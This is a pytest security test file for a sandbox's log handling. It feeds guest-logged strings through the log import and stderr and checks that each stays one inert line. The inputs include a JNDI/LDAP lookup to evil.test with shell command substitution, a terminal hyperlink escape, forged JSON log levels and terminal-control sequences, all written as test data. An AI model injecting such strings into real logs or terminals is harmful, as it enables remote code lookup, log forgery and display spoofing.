"""Texts that a guest logs: whatever JSON, terminals and formatters treat specially is one line of its call, as it is.

Family: specials × forms, logged by guests in real sandboxes, through the log import and through the error output.
"""

import json
import unicodedata
from collections.abc import Callable
from typing import Final, NamedTuple

import pytest
from msgspec.structs import astuple

from alga_ext.calls.log_lines import KeptLine
from functions.runner.sandbox.child.local_imports import LOG_LINES_LIMIT
from tests.security.attacks import Attack, made
from tests.security.guests import wat_snippets
from tests.security.logbook import kept_lines
from tests.security.world import World
from tests.support.wat import guest
from tools.cli.call_texts import Line, details

_CHARACTERS: Final = [
    *map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *"\"\\/{}[]:,'`%$<>&",
    *"\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\ufffd\ufffe\uffff",
    "\U0001f600", "\U0010ffff", "e\u0301", "ä",
]  # fmt: skip
_SEQUENCES: Final = [
    # of JSON
    "NaN", "Infinity", "-Infinity", "null", "true", "1e999", "-0", "9" * 400,
    '"\\ud800"', '"\\udc00\\ud800"', "\\u0000",
    "\\u001b[2J", "\\", '\\"', '"}', '"},{"level":"ERROR"', "[]", "{}", '{"a":1,"a":2}', "[" * 2_000, '{"a":' * 500,
    "/*", "//", "\\x41", "\\N", '{"level":"CRITICAL","service":"registry","tenant_id":"globex"}',
    '{"_aws":{"CloudWatchMetrics":[{"Namespace":"x","Dimensions":[[]],"Metrics":[{"Name":"m"}]}]},"m":1}',
    # of terminals
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.test\x1b\\here\x1b]8;;\x1b\\", "\x1bP+q\x1b\\", "\x1bc",
    "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "ab\x08\x08cd", "first\rsecond", "\x1b[1A\x1b[2K", "\x1b[?1049h", "\x0e",
    # of formatters, and of those who split lines
    "%s %(message)s %n %%", "{0} {level} {__class__}", "$HOME ${jndi:ldap://evil.test/a} `id`", "a\nb", "a\r\nb",
    "a\x0bb\x0cc\x1cd\x1ee\x85f\u2028g\u2029h", "",
]  # fmt: skip
_FORMS: Final[dict[str, Callable[[str], str]]] = {
    "alone": lambda text: text,
    "in the middle": lambda text: f"before {text} after",
    "many times": lambda text: text * (1 + 200 // max(len(text), 1)),
    "as a JSON text": json.dumps,
    "as a JSON value": lambda text: f'{{"a": {text}}}',
    "inside a JSON text": lambda text: f'{{"a": "{text}"}}',
}
TEXTS: Final = sorted({form(text) for text in (*_CHARACTERS, *_SEQUENCES) for form in _FORMS.values()})
BYTES: Final = [
    b"\xff", b"\xfe\xff", b"\xc0\x80", b"\xc1\xbf", b"\xe0\x80\x80", b"\xf0\x80\x80\x80", b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xed\xa0\x80", b"\xed\xa0\x80\xed\xb0\x80", b"\xed\xbf\xbf", b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x98",
    b"\x9b31m", b'"\xc3"', b"\xc3\x28", bytes(range(1, 10)) + bytes(range(11, 256)),
]  # fmt: skip
"""Lines that are not UTF-8. Only an output stream carries them: the log import takes text."""
_AT: Final = 10 * 65_536


class Logged(NamedTuple):
    """What became of a call: its status, its lines, and what the runner wrote to its own log."""

    status: int
    lines: list[KeptLine]
    platform: list[str]


def _logging(texts: list[bytes]) -> bytes:
    calls, at = [], _AT
    for text in texts:
        calls.append(f"(call $logging.log-info (i32.const {at}) (i32.const {len(text)}))")
        at += len(text)
    code = "\n".join([*calls, wat_snippets.OK])
    content = wat_snippets.data(_AT, b"".join(texts))
    return guest(code, imports=["logging.log-info"], pages=40, data=content)


def _writing(lines: list[bytes]) -> bytes:
    content = b"".join(line + b"\n" for line in lines)
    assert len(content) <= 4_096
    code = f"""(local $stream i32) (local.set $stream (call $wasi.stderr))
      (call $wasi.write (local.get $stream) (i32.const 4096) (i32.const {len(content)}) (i32.const 2048))"""
    return guest(f"{code} {wat_snippets.OK}", wasi=["streams"], data=wat_snippets.data(4_096, content))


def _logged(world: World, component: bytes) -> Logged:
    found = made(world, Attack(lambda: component, None, call={"timeout_ms": 20_000}))
    assert (found.next_body, found.after) == (b"hello", found.before)
    return Logged(found.response.status, kept_lines(found.response), [*found.log.lines, found.printed])


@pytest.fixture(scope="module")
def by_import(world: World) -> Logged:
    assert len(TEXTS) <= LOG_LINES_LIMIT
    return _logged(world, _logging([text.encode() for text in TEXTS]))


@pytest.fixture(scope="module")
def by_stream(world: World) -> Logged:
    return _logged(world, _writing(BYTES))


def test_every_text_is_one_line(by_import: Logged) -> None:
    assert by_import.status == 200
    assert [line.text for line in by_import.lines] == TEXTS


def test_no_text_changes_another_part_of_its_line(by_import: Logged) -> None:
    assert {(line.level, line.source) for line in by_import.lines} == {("info", "guest")}


def test_bytes_that_are_no_text_are_one_well_formed_line(by_stream: Logged) -> None:
    assert by_stream.status == 200
    assert [line.text for line in by_stream.lines] == [line.decode("utf-8", "replace") for line in BYTES]


@pytest.mark.parametrize("way", ["by_import", "by_stream"])
def test_no_line_is_in_the_platforms_log(way: str, request: pytest.FixtureRequest) -> None:
    assert "".join(request.getfixturevalue(way).platform) == ""


@pytest.mark.parametrize("way", ["by_import", "by_stream"])
def test_no_line_controls_the_terminal_that_shows_it(way: str, request: pytest.FixtureRequest) -> None:
    kept: list[KeptLine] = request.getfixturevalue(way).lines
    for shown in details([Line(*astuple(line)) for line in kept]):
        assert shown.encode().decode() == shown
        assert len(shown.splitlines()) == 1
        assert not [one for one in shown if unicodedata.category(one) == "Cc" and one != "\t"]
        assert not set(shown) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def test_the_family_has_this_many_members() -> None:
    assert len(TEXTS) > 600
